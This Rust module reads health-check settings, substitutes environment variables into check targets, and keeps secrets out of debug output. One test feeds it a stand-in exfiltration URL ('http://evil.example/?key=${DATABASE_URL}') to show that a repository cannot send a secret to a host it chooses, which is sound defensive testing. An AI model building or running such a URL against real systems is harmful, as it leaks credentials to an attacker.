//! The checks that a configuration file asks for.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::time::Duration;

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};

use super::options::{CheckOptions, Code, FileOptions, StatusOption, Texts};
use super::services::libpq_address;
use super::{Environment, Origin, entries};
use crate::model::parse_duration;

/// A target with the values of its variables, which may be secrets: shown to nobody.
#[derive(Clone, PartialEq, Eq)]
pub enum Target {
    /// What to ask.
    Known(String),
    /// Why that is not known.
    Unknown(String),
}

impl std::fmt::Debug for Target {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Known(_) => f.write_str("Known(…)"),
            Self::Unknown(why) => f.debug_tuple("Unknown").field(why).finish(),
        }
    }
}

impl Target {
    /// Puts the values in the place of `${NAME}`.
    ///
    /// In a repository's file a variable may only be the whole target: the host then comes with it, and
    /// nobody's secret goes to a host that the repository chose. `${PGHOST}` of PostgreSQL stands for all
    /// that libpq reads with it.
    fn of(written: &str, kind: &str, origin: &Origin, environment: &Environment) -> Self {
        if kind == "postgres"
            && ["${PGHOST}", "${PGDATABASE}"].contains(&written)
            && let Some(address) = libpq_address(environment)
        {
            return Self::Known(address);
        }
        let mut made = String::new();
        let mut rest = written;
        while let Some((before, after)) = rest.split_once("${") {
            let Some((name, behind)) = after.split_once('}') else {
                return Self::Unknown("has `${` and no `}` behind it".to_owned());
            };
            let whole = before.is_empty() && behind.is_empty() && made.is_empty();
            if !whole && matches!(origin, Origin::Repository(..)) {
                let rule = "in a repository's file a variable may only be the whole target";
                return Self::Unknown(format!("has ${{{name}}} in it, and {rule}"));
            }
            let Some(value) = environment.named(name).filter(|value| !value.is_empty()) else {
                return Self::Unknown(format!("${name} is not set"));
            };
            made.push_str(before);
            made.push_str(&in_place(value.trim(), &made, behind));
            rest = behind;
        }
        made.push_str(rest);
        Self::Known(made)
    }
}

/// Returns a variable's value for its place in a URL: nobody encodes a password that has a variable of
/// its own, so in the login and behind the `?` it is encoded here.
fn in_place<'a>(value: &'a str, before: &str, behind: &str) -> Cow<'a, str> {
    let Some((_, said)) = before.split_once("://") else { return value.into() };
    // Placeholders that follow are written without any of these.
    let login = !said.contains(['/', '?'])
        && behind.find('@').is_some_and(|at| at < behind.find(['/', '?']).unwrap_or(usize::MAX));
    let query = said.contains('?');
    if login || query { utf8_percent_encode(value, NON_ALPHANUMERIC).into() } else { value.into() }
}

/// One check, as it was written; what it means is for `probes`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CheckSettings {
    /// What to call it.
    pub id: String,
    /// `http`, `tcp`, `tls`, `metrics`, or a row of `probes::kinds`.
    pub kind: String,
    /// A URL, or `host:port`, as the file has it: with `${NAME}` for a variable.
    pub written: String,
    /// The same with the values of the variables, or why there is none.
    pub target: Target,
    /// What it belongs to.
    pub group: Option<String>,
    /// How long it may take.
    pub timeout: Option<Duration>,
    /// The time between two scrapes of metrics.
    pub window: Option<Duration>,
    /// The ids of the checks that must not fail before this is asked.
    pub needs: Vec<String>,
    /// Where it becomes a warning; `None` for the built-in limits.
    pub warn: Option<Vec<String>>,
    /// Where it becomes a failure; `None` for the built-in limits.
    pub fail: Option<Vec<String>>,
    /// The likely cause of a failure.
    pub hint: Option<String>,
    /// The section of the runbook.
    pub runbook: Option<String>,
    /// What only some kinds have.
    pub keys: KindKeys,
    /// Which file.
    pub origin: Origin,
    /// The line on which it begins, from 1.
    pub line: usize,
}

/// The keys that only some kinds of check have, as they were written.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct KindKeys {
    /// Good codes of a page: `200`, `200-299`, `2xx`.
    pub status: Vec<String>,
    /// Expressions that its headers match.
    pub header: BTreeMap<String, String>,
    /// An expression that its body matches.
    pub body: Option<String>,
    /// What must be in its document: `$.status == "ok"`.
    pub json: Vec<String>,
    /// How it is asked for.
    pub method: Option<String>,
    /// How many redirects are followed.
    pub redirects: Option<u8>,
    /// The name servers that are asked.
    pub servers: Vec<String>,
    /// A program and its arguments.
    pub command: Vec<String>,
    /// How the program says how it is.
    pub format: Option<String>,
}

impl KindKeys {
    /// Returns the names of those that are given.
    pub fn given(&self) -> impl Iterator<Item = &'static str> + use<> {
        let all = [
            ("status", !self.status.is_empty()),
            ("header", !self.header.is_empty()),
            ("body", self.body.is_some()),
            ("json", !self.json.is_empty()),
            ("method", self.method.is_some()),
            ("redirects", self.redirects.is_some()),
            ("servers", !self.servers.is_empty()),
            ("command", !self.command.is_empty()),
            ("format", self.format.is_some()),
        ];
        all.into_iter().filter_map(|(name, given)| given.then_some(name))
    }

    /// Takes them out of what a file says.
    fn of(options: &CheckOptions) -> Self {
        let code = |code: &Code| match code {
            Code::Number(number) => number.to_string(),
            Code::Text(text) => text.clone(),
        };
        let status = match &options.status {
            None => Vec::new(),
            Some(StatusOption::One(one)) => vec![code(one)],
            Some(StatusOption::Several(all)) => all.iter().map(code).collect(),
        };
        let json = match options.json.clone() {
            None => Vec::new(),
            Some(Texts::One(one)) => vec![one],
            Some(Texts::Several(all)) => all,
        };
        Self {
            status,
            header: options.header.clone(),
            body: options.body.clone(),
            json,
            method: options.method.clone(),
            redirects: options.redirects,
            servers: options.servers.clone(),
            command: options.command.clone(),
            format: options.format.clone(),
        }
    }
}

impl CheckSettings {
    /// Reads the durations and the variables of the target; errs in words that follow its name.
    pub(super) fn read(
        options: &CheckOptions,
        line: usize,
        origin: &Origin,
        environment: &Environment,
    ) -> Result<Self, String> {
        let duration = |name, text: &Option<String>| match text {
            None => Ok(None),
            Some(text) => match parse_duration(text) {
                Ok(value) if !value.is_zero() => Ok(Some(value)),
                _ => Err(format!(
                    "has the {name} `{text}`, which is not a duration such as 500ms, 5s or 1m"
                )),
            },
        };
        let keys = KindKeys::of(options);
        let target = Target::of(&options.target, &options.kind, origin, environment);
        let options = options.clone();
        Ok(Self {
            timeout: duration("timeout", &options.timeout)?,
            window: duration("window", &options.window)?,
            origin: origin.clone(),
            line,
            id: options.id,
            kind: options.kind,
            target,
            written: options.target,
            group: options.group,
            needs: options.needs,
            warn: options.warn,
            fail: options.fail,
            hint: options.hint,
            runbook: options.runbook,
            keys,
        })
    }
}

/// Reads the checks of a repository's file out of its text; errs in words.
pub fn checks_of(text: &str, environment: &Environment) -> Result<Vec<CheckSettings>, String> {
    let path = std::path::Path::new("obs.toml");
    let options = FileOptions::parse(text, path).map_err(|error| error.to_string())?;
    let origin = Origin::Repository(path.to_owned(), None);
    let written = options.base.check.unwrap_or_default();
    let (checks, unread) = entries::read_checks(&written, &origin, environment);
    unread.into_iter().next().map_or(Ok(checks), |first| Err(first.reason))
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    fn read(written: &str, origin: &Origin) -> Target {
        let pairs = [("DATABASE_URL", "postgres://u:hunter2@db/x"), ("HOST", "db"), ("EMPTY", "")];
        Target::of(written, "tcp", origin, &Environment::from_pairs(&pairs))
    }

    #[test]
    fn a_variable_is_put_into_a_target() {
        let user = Origin::User(PathBuf::from("config.toml"), None);
        let known = |text: &str| Target::Known(text.to_owned());
        assert_eq!(read("${DATABASE_URL}", &user), known("postgres://u:hunter2@db/x"));
        assert_eq!(read("tcp://${HOST}:1", &user), known("tcp://db:1"));
        assert_eq!(read("plain$", &user), known("plain$"));
        assert_eq!(read("http://${HOST}:1/a?b=c", &user), known("http://db:1/a?b=c"));
        for (written, why) in [
            ("${NONE}", "$NONE is not set"),
            ("${EMPTY}", "$EMPTY is not set"),
            ("${HOST", "has `${` and no `}` behind it"),
        ] {
            assert_eq!(read(written, &user), Target::Unknown(why.to_owned()), "{written}");
        }
    }

    #[test]
    fn a_password_of_its_own_needs_no_encoding() {
        let user = Origin::User(PathBuf::from("config.toml"), None);
        let password = "p@ss/w#r:d?%41";
        let pairs = [("NAME", "ada"), ("WORD", password), ("PLACE", "db:5432"), ("DB", "a/b")];
        let target = |written: &str| {
            Target::of(written, "postgres", &user, &Environment::from_pairs(&pairs))
        };
        let encoded = "p%40ss%2Fw%23r%3Ad%3F%2541";
        for (written, read) in [
            (
                "postgres://${NAME}:${WORD}@${PLACE}/x",
                format!("postgres://ada:{encoded}@db:5432/x"),
            ),
            ("amqp://:${WORD}@${PLACE}/${DB}", format!("amqp://:{encoded}@db:5432/a/b")),
            ("postgres://db/x?password=${WORD}", format!("postgres://db/x?password={encoded}")),
        ] {
            assert_eq!(target(written), Target::Known(read), "{written}");
        }
    }

    #[test]
    fn the_variables_of_libpq_are_one_target_in_any_file() {
        let repository = Origin::Repository(PathBuf::from("obs.toml"), None);
        let pairs = [("PGHOST", "db"), ("PGUSER", "ada"), ("PGPASSWORD", "a/b")];
        let environment = Environment::from_pairs(&pairs);
        let read = |kind: &str| Target::of("${PGHOST}", kind, &repository, &environment);
        let whole = "postgres://ada:a%2Fb@db/?sslmode=prefer".to_owned();
        assert_eq!(read("postgres"), Target::Known(whole));
        assert_eq!(read("tcp"), Target::Known("db".to_owned()));
    }

    #[test]
    fn a_repository_does_not_choose_the_host_that_a_secret_goes_to() {
        let repository = Origin::Repository(PathBuf::from("obs.toml"), None);
        let hostile = read("http://evil.example/?key=${DATABASE_URL}", &repository);
        assert!(matches!(hostile, Target::Unknown(_)), "{hostile:?}");
        assert!(matches!(read("${DATABASE_URL}", &repository), Target::Known(_)));
        assert!(!format!("{:?}", read("${DATABASE_URL}", &repository)).contains("hunter2"));
    }
}
